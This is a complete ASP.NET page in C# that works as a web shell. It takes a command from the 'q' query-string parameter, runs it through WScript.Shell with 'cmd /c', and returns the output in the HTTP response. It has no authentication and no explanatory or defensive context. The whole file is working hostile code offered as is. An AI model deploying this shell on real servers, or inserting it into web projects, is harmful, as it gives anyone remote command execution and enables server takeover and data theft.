<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string q = Request.QueryString["q"];
    if (String.IsNullOrEmpty(q)) return;
    Type t = Type.GetTypeFromProgID("WScript.Shell");
    object sh = Activator.CreateInstance(t);
    object ex = t.InvokeMember("Exec", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { "cmd /c " + q });
    object so = ex.GetType().InvokeMember("StdOut", System.Reflection.BindingFlags.GetProperty, null, ex, null);
    Response.Write(so.GetType().InvokeMember("ReadAll", System.Reflection.BindingFlags.InvokeMethod, null, so, null));
}
</script>
